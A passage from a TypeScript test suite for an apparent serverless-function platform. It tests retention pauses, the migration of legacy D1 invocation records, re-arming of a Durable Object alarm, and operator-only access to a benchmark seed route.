    expect(pauses.deletedByOneStep).toBe(RETENTION_STEP_ROWS);
    expect(pauses.busy).toBeGreaterThanOrEqual(RETENTION_BUSY_PAUSE_MS);
    expect(pauses.idle).toBeLessThan(RETENTION_BUSY_PAUSE_MS);
    expect(pauses.idle).toBeGreaterThanOrEqual(RETENTION_PAUSE_MS);
  });
});

describe("records written to D1 before the data plane", () => {
  it("are listed (merged, same cursors) until the gate moved them, then read from the data plane alone", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    await legacySettled(a);
    // As just after the upgrade: the gate has not moved this account's D1 records yet (and cannot
    // for now: its D1 is down), while the Worker reads D1 as usual.
    const fail = () => Promise.reject(new Error("D1 is down"));
    await runInDurableObject(gateOf(a.accountId), (instance: AccountGate) => {
      const internals = instance as unknown as { env: unknown; data: { legacyDone: boolean } };
      internals.data.legacyDone = false;
      internals.env = { ...env, DB: { batch: fail, prepare: () => ({ bind: () => ({ all: fail, first: fail, run: fail }) }) } };
    });
    const t = Date.now() - 10 * 60_000;
    const legacy = Array.from({ length: 5 }, (_, i) => ({ id: `legacy-${i}-${a.accountId}`, startedAt: t + i * 1000 }));
    const statements = legacy.flatMap((r) => [
      env.DB.prepare("INSERT INTO invocations (id, account_id, lambda_uuid, deployment_id, version, trigger, status, error_code, started_at, duration_ms, request_id, schedule_id, outbound) VALUES (?, ?, ?, NULL, 1, 'http', 'SUCCEEDED', NULL, ?, 5, ?, NULL, '[]')").bind(r.id, a.accountId, fn, r.startedAt, `req-${r.id}`),
      env.DB.prepare("INSERT INTO invocation_logs (account_id, invocation_id, lambda_uuid, seq, level, message, extras, timestamp) VALUES (?, ?, ?, 0, 'Info', ?, '[]', ?)").bind(a.accountId, r.id, fn, `legacy line of ${r.id}`, r.startedAt),
    ]);
    await env.DB.batch(statements);
    const fresh = await invoked(a, fn, { order: 9, who: "new" });
    const expected = [fresh, ...legacy.map((r) => r.id).reverse()];
    const pages = async () => {
      const ids: string[] = [];
      let cursor: string | null = "";
      while (cursor !== null) {
        const body: any = await json(await call(`/api/account/${a.accountId}/invocations?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`, { key: a.invocation }));
        ids.push(...body.items.map((i: any) => i.id));
        cursor = body.nextCursor;
      }
      return ids;
    };
    expect(await pages()).toEqual(expected);
    const before = await json(await call(`/api/account/${a.accountId}/invocations/${legacy[1]!.id}`, { key: a.invocation }));
    expect(before.logs.map((l: any) => l.message)).toEqual([`legacy line of ${legacy[1]!.id}`]);
    // D1 is back for the gate, and its next alarm moves them.
    await runInDurableObject(gateOf(a.accountId), async (instance: AccountGate, state) => {
      const internals = instance as unknown as { env: unknown; data: { chores: { legacyAt: number | null } } };
      internals.env = env;
      internals.data.chores.legacyAt = Date.now();
      await state.storage.setAlarm(Date.now());
    });
    await legacySettled(a);
    expect((await env.DB.prepare("SELECT count(*) AS n FROM invocations WHERE account_id = ?").bind(a.accountId).first<{ n: number }>())!.n).toBe(0);
    expect((await env.DB.prepare("SELECT count(*) AS n FROM invocation_logs WHERE account_id = ?").bind(a.accountId).first<{ n: number }>())!.n).toBe(0);
    expect(await pages()).toEqual(expected);
    const moved = await json(await call(`/api/account/${a.accountId}/invocations/${legacy[0]!.id}`, { key: a.invocation }));
    expect(moved.logs).toEqual([{ level: "Info", message: `legacy line of ${legacy[0]!.id}`, extras: [], timestamp: legacy[0]!.startedAt }]);
    expect((await json(await logs(a, "?q=legacy"))).items).toHaveLength(5);
  });
});

describe("the gate's alarm", () => {
  it("is set again when the one it set is long overdue without having run (it was seen to vanish locally)", async () => {
    const a = await newAccount();
    await storedRows(a.accountId, "SELECT 1"); // started, first chores done or scheduled
    await runDurableObjectAlarm(gateOf(a.accountId));
    // The state a vanished alarm leaves: none stored, while the instance believes one is set long ago.
    const stale = Date.now() - 60_000;
    await runInDurableObject(gateOf(a.accountId), async (instance: AccountGate, state) => {
      await state.storage.deleteAlarm();
      (instance as unknown as { alarmAt: number | null }).alarmAt = stale;
    });
    const lease = { invocationId: crypto.randomUUID(), accountId: a.accountId, lambdaUuid: "fn", deploymentId: null, version: 1, trigger: "http" as const, requestId: "r", startedAt: Date.now(), deadline: Date.now() + 60_000 };
    await gateOf(a.accountId).acquire(lease, { concurrentInvocations: 5, invocationsPerMonth: 100, enforceMonthlyQuota: false });
    // Set again: the instance no longer holds the stale time (it holds the new one, or null while
    // that alarm runs), and what storage holds is due no later than the lease's expiry.
    const after = await runInDurableObject(gateOf(a.accountId), async (instance: AccountGate, state) => ({
      cached: (instance as unknown as { alarmAt: number | null }).alarmAt,
      stored: await state.storage.getAlarm(),
    }));
    expect(after.cached).not.toBe(stale);
    if (after.stored !== null) expect(after.stored).toBeLessThanOrEqual(lease.deadline + LEASE_MARGIN_MS);
  });
});

describe("the bench's seed route", () => {
  it("is 404 unless the instance runs with EDGEFN_BENCH=1, and operator-only either way", async () => {
    const a = await newAccount();
    const body = { accountId: a.accountId, lambdaUuid: "fn", records: 1, logsPerRecord: 1, startedAt: Date.now(), stepMs: 0, seed: 1 };
    expect((await call("/admin/bench/seed", { key: a.admin, body })).status).toBe(401);
    const res = await call("/admin/bench/seed", { key: OPERATOR_TOKEN, body });
    expect(res.status).toBe(404);
    expect(await storedCount(a.accountId)).toBe(0);
    const spec = await json(await call("/api/openapi.json"));
    expect(Object.keys(spec.paths).filter((p) => p.includes("bench"))).toEqual([]);
  });
});
